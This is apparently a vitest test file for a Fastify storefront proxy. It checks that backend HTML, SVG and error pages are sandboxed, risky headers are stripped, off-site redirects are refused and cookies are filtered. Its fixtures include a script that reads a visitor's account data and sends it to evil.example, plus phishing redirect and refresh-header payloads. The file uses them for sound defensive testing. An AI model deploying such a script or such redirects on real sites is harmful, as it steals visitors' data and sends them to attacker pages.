import type { AddressInfo } from 'node:net';
import fastifyMultipart from '@fastify/multipart';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { buildTestApp } from './helpers.ts';

/** A script that would read the signed-in visitor's data, were it run on the storefront's origin. */
const EVIL_SCRIPT =
  "fetch('/api/user/').then((r) => r.text()).then((t) => fetch('https://evil.example/?' + t))";
const EVIL_HTML = `<!doctype html><title>evil</title><script>${EVIL_SCRIPT}</script>`;
const EVIL_SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${EVIL_SCRIPT}</script></svg>`;

/** Stands in for the agency's backend: echoes what reached it. */
async function startUpstream(): Promise<FastifyInstance> {
  const upstream = Fastify();
  await upstream.register(fastifyMultipart);
  upstream.all('/backend/api/echo/', async (request, reply) => {
    const parts: Record<string, string> = {};
    if (request.isMultipart()) {
      for await (const part of request.parts()) {
        parts[part.fieldname] =
          part.type === 'file'
            ? `file:${part.filename}:${(await part.toBuffer()).length}`
            : String(part.value);
      }
    }
    reply.header('set-cookie', 'sessionid=abc; Path=/');
    return reply.code(201).send({
      method: request.method,
      url: request.url,
      token: request.headers['jwt-access-token'] ?? null,
      cookie: request.headers.cookie ?? null,
      forwarded: {
        host: request.headers['x-forwarded-host'] ?? null,
        proto: request.headers['x-forwarded-proto'] ?? null,
        for: request.headers['x-forwarded-for'] ?? null,
      },
      parts,
    });
  });
  // A backend that builds its links on its own address (no USE_X_FORWARDED_HOST).
  upstream.get('/backend/api/linked/', async (request) => {
    const own = `http://${request.headers.host}`;
    return { image: `${own}/media/pic.png`, next: `${own}/backend/api/linked/?page=2`, text: 'Псков' };
  });
  upstream.get('/backend/media/pic.png', async (_request, reply) =>
    reply.type('image/png').send(Buffer.from('89504e47', 'hex')),
  );
  // A personal answer the backend lets be cached, with a cookie that is not Secure.
  upstream.get('/backend/api/user/', async (_request, reply) =>
    reply
      .header('cache-control', 'private, max-age=60')
      .header('set-cookie', 'sessionid=abc; Path=/; HttpOnly')
      .send({ email: 'a@b.c' }),
  );
  // The backend's own HTML (DRF's browsable API), with scripts of its own.
  upstream.get('/backend/api/browsable/', async (_request, reply) =>
    reply.type('text/html; charset=utf-8').send('<!doctype html><script>window.drf = {}</script>'),
  );
  upstream.get('/backend/api/guarded/', async (_request, reply) =>
    reply
      .type('text/html; charset=utf-8')
      .header('content-security-policy', "script-src 'self'")
      .send('<!doctype html><p>guarded</p>'),
  );
  // Uploads anyone could have put in the backend's media: documents with scripts of their own.
  upstream.get('/backend/media/evil.html', async (_request, reply) =>
    reply.type('text/html; charset=utf-8').send(EVIL_HTML),
  );
  upstream.get('/backend/media/evil.svg', async (_request, reply) =>
    reply.type('image/svg+xml').send(EVIL_SVG),
  );
  upstream.get('/backend/media/untyped', async (_request, reply) => {
    reply.hijack();
    reply.raw.writeHead(200, {});
    reply.raw.end(EVIL_HTML);
  });
  upstream.get('/backend/media/kept.svg', async (_request, reply) => reply.code(304).send());
  upstream.get('/backend/media/notes.txt', async (_request, reply) =>
    reply.type('text/plain').send('<b>x</b>'),
  );
  upstream.get('/backend/media/guide.pdf', async (_request, reply) =>
    reply
      .type('application/pdf')
      .header('content-disposition', 'inline; filename="guide.pdf"')
      .send(Buffer.from('%PDF-1.4 test')),
  );
  // Django's error page with DEBUG off, and a problem report in JSON.
  upstream.get('/backend/api/broken/', async (_request, reply) =>
    reply.code(500).type('text/html').send(EVIL_HTML),
  );
  upstream.get('/backend/api/problem/', async (_request, reply) =>
    reply.code(400).type('application/problem+json').send({ title: 'Неверный запрос' }),
  );
  // What a backend says of itself, and headers that would act on the storefront's whole origin.
  upstream.get('/backend/api/talkative/', async (_request, reply) =>
    reply
      .header('server', 'WSGIServer/0.2 CPython/3.11.2')
      .header('x-powered-by', 'Django')
      .header('via', '1.1 backend-proxy')
      .header('x-runtime', '0.012')
      .header('x-django-version', '4.2')
      .header('refresh', '0; url=https://evil.example/')
      .header('clear-site-data', '"cookies", "storage"')
      .header(
        'link',
        `<http://${_request.headers.host}/backend/api/linked/?page=2>; rel="next", ` +
          '<https://evil.example/x>; rel="preload"; as="script", </backend/media/pic.png>; rel=preload; as=image',
      )
      .send({ ok: true }),
  );
  upstream.get('/backend/api/moved/', async (_request, reply) => reply.redirect('/backend/api/echo/', 302));
  // Django's APPEND_SLASH: a path-absolute 301 to the same path with its slash.
  upstream.get('/backend/api/slash', async (_request, reply) =>
    reply.redirect('/backend/api/slash/?q=1', 301),
  );
  upstream.get('/backend/api/moved-absolute/', async (request, reply) =>
    reply.redirect(`http://${request.headers.host}/backend/media/pic.png`, 302),
  );
  // A backend that builds its URLs on X-Forwarded-Host (Django's build_absolute_uri), over http.
  upstream.get('/backend/api/moved-forwarded/', async (request, reply) =>
    reply.redirect(`http://${String(request.headers['x-forwarded-host'])}/api/echo/?x=1`, 302),
  );
  upstream.get('/backend/api/off-site/', async (_request, reply) =>
    reply.type('text/html').redirect('https://evil.example/phish', 302),
  );
  upstream.get('/backend/api/scheme-relative/', async (_request, reply) =>
    reply.redirect('//evil.example/phish', 301),
  );
  upstream.post('/backend/api/created/', async (_request, reply) =>
    reply.code(201).header('location', 'https://evil.example/orders/1').send({ id: 1 }),
  );
  upstream.get('/backend/api/missing/', async (_request, reply) =>
    reply.code(404).send({ detail: 'Не найдено.' }),
  );
  upstream.get('/backend/api/cookies/', async (_request, reply) =>
    reply
      .header('set-cookie', [
        'sessionid=s3ss; Path=/',
        'access_token=forged; Path=/',
        'signed_in=1; Path=/',
        'tracker=1; Path=/',
      ])
      .send({}),
  );
  await upstream.listen({ port: 0, host: '127.0.0.1' });
  return upstream;
}

/** The address of the proxy in front of the storefront (`TRUST_PROXY`); other clients are not trusted. */
const PROXY = '127.0.0.2';

let upstream: FastifyInstance;
let app: FastifyInstance;

beforeAll(async () => {
  upstream = await startUpstream();
  const { port } = upstream.server.address() as AddressInfo;
  app = await buildTestApp({
    apiUrl: `http://127.0.0.1:${port}/backend`,
    trustProxy: [PROXY],
    // The site, and the host `inject` calls by default (`localhost:80`).
    publicOrigins: ['https://shop.example', 'http://localhost'],
  });
});

afterAll(async () => {
  await app.close();
  await upstream.close();
});

describe('API_URL: /api is proxied to the real backend, its answers made the storefront’s', () => {
  it('passes method, query, auth header and cookies, and returns status and cookies', async () => {
    const response = await app.inject({
      method: 'PATCH',
      url: '/api/echo/?sessionid=42',
      headers: { 'jwt-access-token': 'Bearer t0ken', cookie: 'sessionid=42' },
      payload: { a: 1 },
    });
    expect(response.statusCode).toBe(201);
    expect(response.headers['set-cookie']).toBe('sessionid=abc; Path=/');
    expect(response.json()).toMatchObject({
      method: 'PATCH',
      url: '/backend/api/echo/?sessionid=42',
      token: 'Bearer t0ken',
      cookie: 'sessionid=42',
    });
  });

  it('tells the backend where the visitor came from, and passes only its own cookies', async () => {
    const response = await app.inject({
      url: '/api/echo/',
      remoteAddress: PROXY,
      headers: {
        host: '127.0.0.1',
        'x-forwarded-host': 'shop.example',
        'x-forwarded-proto': 'https',
        'x-forwarded-for': '203.0.113.7',
        cookie: 'access_token=a.b.c; sessionid=k3y; refresh_token=r.e.f; _ym_uid=1; csrftoken=Tok',
      },
    });
    expect(response.json()).toMatchObject({
      cookie: 'sessionid=k3y; csrftoken=Tok',
      forwarded: { host: 'shop.example', proto: 'https', for: `203.0.113.7, ${PROXY}` },
    });
    const anonymous = await app.inject({ url: '/api/echo/', headers: { cookie: 'access_token=a.b.c' } });
    expect(anonymous.json<{ cookie: string | null }>().cookie).toBeNull();
  });

  it('does not pass on the forwarding headers of a client that is not a trusted proxy', async () => {
    const response = await app.inject({
      url: '/api/echo/',
      headers: {
        host: 'shop.example',
        'x-forwarded-host': 'evil.example',
        'x-forwarded-proto': 'https',
        'x-forwarded-for': '203.0.113.7',
        forwarded: 'for=203.0.113.7',
      },
    });
    expect(response.json()).toMatchObject({
      // The site's public origin says https, whatever the client claims or used.
      forwarded: { host: 'shop.example', proto: 'https', for: '127.0.0.1' },
    });
  });

  it('makes a personal answer no-store and its cookies Secure over https, where the backend did not', async () => {
    const overHttps = await app.inject({
      url: '/api/user/',
      remoteAddress: PROXY,
      headers: { 'x-forwarded-proto': 'https' },
    });
    expect(overHttps.headers['cache-control']).toBe('no-store');
    expect([overHttps.headers['set-cookie']].flat()).toEqual(['sessionid=abc; Path=/; HttpOnly; Secure']);
    const overHttp = await app.inject('/api/user/');
    expect(overHttp.headers['set-cookie']).toBe('sessionid=abc; Path=/; HttpOnly');
    expect((await app.inject('/media/pic.png')).headers['cache-control']).not.toBe('no-store');
  });

  it('serves nothing of the backend’s that could run on the storefront: HTML, SVG, error pages and untyped answers are sandboxed downloads', async () => {
    for (const url of ['/media/evil.html', '/media/evil.svg', '/api/browsable/', '/api/guarded/']) {
      const response = await app.inject(url);
      expect(response.headers['content-security-policy'], url).toBe("sandbox; default-src 'none'");
      expect(response.headers['content-disposition'], url).toBe('attachment');
      expect(response.headers['x-content-type-options'], url).toBe('nosniff');
    }
    // The backend's error page is not passed on at all (tests/server/backend-failures.test.ts).
    const broken = await app.inject('/api/broken/');
    expect(broken.statusCode).toBe(502);
    expect(broken.body).not.toContain('<script');
    const untyped = await app.inject('/media/untyped');
    expect(untyped.headers['content-type']).toBe('application/octet-stream');
    expect(untyped.headers['content-disposition']).toBe('attachment');
    expect(untyped.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
  });

  it('shows plain text sandboxed, and makes a PDF a download under the name the backend gave', async () => {
    const notes = await app.inject('/media/notes.txt');
    expect(notes.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
    expect(notes.headers['content-disposition']).toBeUndefined();
    expect(notes.headers['x-content-type-options']).toBe('nosniff');
    const guide = await app.inject('/media/guide.pdf');
    expect(guide.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
    expect(guide.headers['content-disposition']).toBe('attachment; filename="guide.pdf"');
  });

  it('passes JSON and raster pictures as they are, nosniff', async () => {
    for (const url of ['/api/user/', '/api/problem/', '/media/pic.png']) {
      const response = await app.inject(url);
      expect(response.headers['content-security-policy'], url).toBeUndefined();
      expect(response.headers['content-disposition'], url).toBeUndefined();
      expect(response.headers['x-content-type-options'], url).toBe('nosniff');
    }
    // A 304 only updates the headers of what the browser kept, which got its own.
    const kept = await app.inject('/media/kept.svg');
    expect(kept.statusCode).toBe(304);
    expect(kept.headers['content-security-policy']).toBeUndefined();
    expect(kept.headers['content-type']).toBeUndefined();
    const problem = await app.inject('/api/problem/');
    expect(problem.statusCode).toBe(400);
    expect(problem.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(problem.json()).toEqual({ title: 'Неверный запрос' });
  });

  it('drops what the backend says of itself and headers that would act on the whole site; keeps its own links, on this origin', async () => {
    const response = await app.inject({ url: '/api/talkative/', headers: { host: 'shop.example' } });
    for (const name of [
      'server',
      'x-powered-by',
      'via',
      'x-runtime',
      'x-django-version',
      'refresh',
      'clear-site-data',
    ])
      expect(response.headers[name], name).toBeUndefined();
    expect(response.headers.link).toBe(
      '<https://shop.example/api/linked/?page=2>; rel="next", </media/pic.png>; rel=preload; as=image',
    );
    expect(response.json()).toEqual({ ok: true });
  });

  it('lets the backend set only its own cookies, never the storefront’s', async () => {
    const response = await app.inject('/api/cookies/');
    expect([response.headers['set-cookie']].flat()).toEqual(['sessionid=s3ss; Path=/']);
  });

  it('puts the visitor’s origin in place of the backend’s in JSON, and serves /media/ from the backend', async () => {
    const linked = await app.inject({ url: '/api/linked/', headers: { host: 'shop.example' } });
    expect(linked.json()).toEqual({
      image: 'https://shop.example/media/pic.png',
      next: 'https://shop.example/backend/api/linked/?page=2',
      text: 'Псков',
    });
    const picture = await app.inject('/media/pic.png');
    expect(picture.statusCode).toBe(200);
    expect(picture.headers['content-type']).toBe('image/png');
  });

  it('streams multipart bodies with files', async () => {
    const boundary = '----test';
    const body = [
      `--${boundary}`,
      'Content-Disposition: form-data; name="name"',
      '',
      'Иван',
      `--${boundary}`,
      'Content-Disposition: form-data; name="file"; filename="cv.pdf"',
      'Content-Type: application/pdf',
      '',
      '%PDF-1.4 test',
      `--${boundary}--`,
      '',
    ].join('\r\n');
    const response = await app.inject({
      method: 'POST',
      url: '/api/echo/',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload: body,
    });
    expect(response.json<{ parts: unknown }>().parts).toEqual({ name: 'Иван', file: 'file:cv.pdf:13' });
  });

  it('passes redirects (mapped onto this origin’s /api) and error statuses through, never following them', async () => {
    const moved = await app.inject('/api/moved/');
    expect(moved.statusCode).toBe(302);
    expect(moved.headers.location).toBe('/api/echo/');
    const slash = await app.inject('/api/slash');
    expect(slash.statusCode).toBe(301);
    expect(slash.headers.location).toBe('/api/slash/?q=1');
    const absolute = await app.inject({ url: '/api/moved-absolute/', headers: { host: 'shop.example' } });
    expect(absolute.headers.location).toBe('https://shop.example/media/pic.png');
    const forwarded = await app.inject({
      url: '/api/moved-forwarded/',
      remoteAddress: PROXY,
      headers: { 'x-forwarded-host': 'shop.example', 'x-forwarded-proto': 'https' },
    });
    expect(forwarded.headers.location).toBe('https://shop.example/api/echo/?x=1');
    const missing = await app.inject('/api/missing/');
    expect(missing.statusCode).toBe(404);
    expect(missing.json()).toEqual({ detail: 'Не найдено.' });
  });

  it('does not send the visitor where the backend says off the storefront: such a redirect is a 502, such a Location is dropped', async () => {
    for (const url of ['/api/off-site/', '/api/scheme-relative/']) {
      const refused = await app.inject(url);
      expect(refused.statusCode, url).toBe(502);
      expect(refused.headers.location, url).toBeUndefined();
      expect(refused.json(), url).toEqual({ detail: 'Сервер вернул перенаправление на другой сайт.' });
    }
    const created = await app.inject({ method: 'POST', url: '/api/created/', payload: {} });
    expect(created.statusCode).toBe(201);
    expect(created.headers.location).toBeUndefined();
    expect(created.json()).toEqual({ id: 1 });
  });

  it('names no backend address in a page’s policy: its pictures come through /media/', async () => {
    // The stand-in backend has no site config: the render says so, and goes on without.
    const quiet = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const page = await app.inject('/index.html').finally(() => quiet.mockRestore());
    const policy = String(page.headers['content-security-policy']);
    expect(policy).toContain("img-src 'self' data: blob:;");
    expect(policy).not.toContain('127.0.0.1');
  });

  it('does not start the demo backend', async () => {
    expect((await app.inject('/api/configs/')).statusCode).toBe(404);
  });
});
